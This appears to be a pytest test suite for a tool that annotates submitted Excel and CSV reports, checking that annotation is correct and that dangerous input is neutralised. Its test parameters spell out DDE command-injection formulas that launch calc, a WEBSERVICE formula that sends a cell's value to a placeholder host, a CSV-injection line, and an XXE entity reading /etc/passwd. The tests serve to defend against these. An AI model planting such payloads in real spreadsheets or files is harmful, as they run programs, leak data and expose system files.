"""The marked workbook: the submitter's own, made in the child, and never more dangerous than it was."""

from __future__ import annotations

import io
import zipfile
from collections.abc import Iterator, Sequence
from pathlib import Path

import openpyxl
import pytest
import xlsxwriter
from openpyxl.comments import Comment
from openpyxl.worksheet.formula import ArrayFormula

from tonghop.domain.reading import AnnotationJob, Mark
from tonghop.reading.annotator import Annotator
from tonghop.reading.limits import Limits

LEAD = ("Biên nhận số 7, nhận lúc 9 giờ.", "Bấm vào từng dòng.")


@pytest.fixture
def annotator() -> Iterator[Annotator]:
    with Annotator(Limits(seconds=20)) as started:
        yield started


def _job(content: bytes, marks: Sequence[Mark], name: str = "bc.xlsx") -> AnnotationJob:
    return AnnotationJob("1", name, content, name, tuple(marks), LEAD)


def _mark(cell: str, text: str = "Ô sai", *, sheet: str = "BC", name: str = "bc.xlsx") -> Mark:
    return Mark(name, sheet, cell, text, is_wrong=True)


def _book(path: Path, *, macros: bool = False) -> bytes:
    book = xlsxwriter.Workbook(str(path))
    sheet = book.add_worksheet("BC")
    sheet.merge_range("A1:D1", "BÁO CÁO")
    sheet.write_row(1, 0, ["Đơn vị", "Dân số", "Số người đã cài đặt"])
    sheet.write_row(2, 0, ["Xã Mỹ Bình", 3014, 224])
    sheet.write_formula("D3", '=WEBSERVICE("http://127.0.0.1:9/")', value="x")
    sheet.write_comment("B3", "Ghi chú của xã")
    if macros:
        (path.parent / "vba.bin").write_bytes(b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1 macros")
        book.add_vba_project(str(path.parent / "vba.bin"))
    book.close()
    return path.read_bytes()


def _opened(made: tuple[str, bytes] | None) -> openpyxl.Workbook:
    assert made is not None
    return openpyxl.load_workbook(io.BytesIO(made[1]), keep_vba=made[0] == "xlsm")


def test_the_own_workbook_keeps_its_cells_and_notes_and_gains_marks(
    annotator: Annotator, tmp_path: Path
) -> None:
    book = _opened(annotator.annotate(_job(_book(tmp_path / "a.xlsx"), [_mark("B3", "Số lạ"), _mark("C1")])))
    sheet = book["BC"]
    assert sheet["B3"].comment.text == "Ghi chú của xã\n\nSố lạ"
    assert sheet["D3"].value == '=WEBSERVICE("http://127.0.0.1:9/")'
    assert sheet["A1"].fill.fgColor.rgb == "FFF4B6B6"  # C1 is inside the merged title
    assert book.active.title == "Cần sửa"


def test_a_note_of_theirs_with_a_telephone_number_goes_into_no_mail(
    annotator: Annotator, tmp_path: Path
) -> None:
    own = openpyxl.load_workbook(io.BytesIO(_book(tmp_path / "a.xlsx")))
    own["BC"]["B3"].comment = Comment("Hỏi chị Nhung 0912 345 678", "")
    own["BC"]["C3"].comment = Comment("Gồm cả ấp 3", "")
    own.save(tmp_path / "b.xlsx")
    made = annotator.annotate(_job((tmp_path / "b.xlsx").read_bytes(), [_mark("B3", "Số lạ")]))
    sheet = _opened(made)["BC"]
    assert (sheet["B3"].comment.text, sheet["C3"].comment.text) == ("Số lạ", "Gồm cả ấp 3")


def test_a_long_sentence_has_a_row_as_high_as_it_needs(annotator: Annotator, tmp_path: Path) -> None:
    marks = [_mark("B3", "Số liệu này cần xem lại. " * 20), _mark("C3", "Số lạ")]
    sheet = _opened(annotator.annotate(_job(_book(tmp_path / "a.xlsx"), marks)))["Cần sửa"]
    heights = {cell.value[:6]: sheet.row_dimensions[cell.row].height for cell in sheet["A"] if cell.value}
    assert heights["Số liệ"] > 6 * 15
    assert heights["Số lạ"] is None


def test_a_second_answer_takes_away_the_marks_of_the_first(annotator: Annotator, tmp_path: Path) -> None:
    first = annotator.annotate(_job(_book(tmp_path / "a.xlsx"), [_mark("C3", "Số thứ nhất")]))
    assert first is not None
    book = _opened(annotator.annotate(_job(first[1], [_mark("A3", "Số thứ hai")])))
    assert book.sheetnames == ["Cần sửa", "BC"]
    assert book["BC"]["C3"].comment is None
    assert book["BC"]["C3"].fill.patternType is None
    assert book["BC"]["A3"].comment.text == "Số thứ hai"


def test_a_workbook_with_macros_keeps_them_unopened(annotator: Annotator, tmp_path: Path) -> None:
    made = annotator.annotate(_job(_book(tmp_path / "a.xlsm", macros=True), [_mark("C3")]))
    assert made is not None
    assert made[0] == "xlsm"
    with zipfile.ZipFile(io.BytesIO(made[1])) as archive:
        assert archive.read("xl/vbaProject.bin").endswith(b"macros")


@pytest.mark.parametrize(
    "text", ["=1+1", "+84", "-1", "@SUM(A1)", '=HYPERLINK("http://x","y")', "\x00\x1b[31mđỏ"]
)
def test_what_we_write_is_text_whatever_it_begins_with(
    annotator: Annotator, tmp_path: Path, text: str
) -> None:
    book = _opened(annotator.annotate(_job(_book(tmp_path / "a.xlsx"), [_mark("C3", text)])))
    cells = [cell for row in book["Cần sửa"].iter_rows() for cell in row if cell.value is not None]
    assert {cell.data_type for cell in cells} == {"s"}
    assert any(str(cell.value).endswith(text.strip("\x00\x1b")) for cell in cells)


@pytest.mark.parametrize(
    ("formula", "is_kept"),
    [
        ("=cmd|'/c calc'!A0", False),
        ("=MSEXCEL|'\\..\\..\\calc.exe'!''", False),
        ('=IFERROR(WEBSERVICE("http://x/?"&B3),1)', False),
        ('=rtd("a",,"b")', False),
        ("=SUM(B3:C3)/2", True),
        ("=B3*100/C3", True),
    ],
)
def test_a_formula_that_reaches_out_comes_back_as_text(
    annotator: Annotator, tmp_path: Path, formula: str, is_kept: bool
) -> None:
    book = openpyxl.load_workbook(io.BytesIO(_book(tmp_path / "a.xlsx")))
    book["BC"]["E3"] = formula
    book["BC"]["F3"] = ArrayFormula("F3:F4", formula)
    book.save(tmp_path / "b.xlsx")
    sheet = _opened(annotator.annotate(_job((tmp_path / "b.xlsx").read_bytes(), [_mark("C3")])))["BC"]
    assert {sheet[cell].data_type for cell in ("E3", "F3")} == ({"f"} if is_kept else {"s"})
    assert sheet["E3"].value == formula


def test_a_csv_comes_back_as_a_workbook_with_its_cells_at_their_places_and_no_formula(
    annotator: Annotator,
) -> None:
    content = "Đơn vị;Dân số;Số người đã cài đặt\n=cmd|' /C calc'!A0;3014;224\nXã Mỹ Bình;3014;4.5\n".encode()
    made = annotator.annotate(_job(content, [Mark("bc.csv", "", "C3", "Số lẻ", is_wrong=True)], "bc.csv"))
    book = _opened(made)
    sheet = book.worksheets[1]
    assert sheet["C3"].comment.text == "Số lẻ"
    assert {cell.data_type for row in sheet.iter_rows() for cell in row} <= {"s", "n"}


@pytest.mark.parametrize(
    "part",
    [b"<!DOCTYPE x [<!ENTITY a SYSTEM 'file:///etc/passwd'>]><x>&a;</x>", b"\xff\xfe<\x00x\x00/\x00>\x00"],
)
def test_a_part_that_hides_from_the_guards_is_never_opened_by_the_library(
    annotator: Annotator, tmp_path: Path, part: bytes
) -> None:
    content = io.BytesIO(_book(tmp_path / "a.xlsx"))
    with zipfile.ZipFile(content, "a") as archive:
        archive.writestr("xl/media/harmless.bin", part)
    made = annotator.annotate(_job(content.getvalue(), [_mark("C3")]))
    assert _opened(made)["BC"]["B3"].comment is None  # a fresh workbook: the submitter's note is not in it


def test_a_workbook_that_is_refused_or_kills_costs_no_other_its_answer(
    annotator: Annotator, tmp_path: Path
) -> None:
    assert annotator.annotate(_job(b"PK\x03\x04 broken", [_mark("C3")])) is None
    assert annotator.annotate(_job(b"", [_mark("C3")])) is None
    good = _job(_book(tmp_path / "a.xlsx"), [_mark("C3")])
    with Annotator(Limits(memory=36 * 2**20)) as small:  # too little to import the library at all
        assert small.annotate(good) is None
    assert annotator.annotate(good) is not None
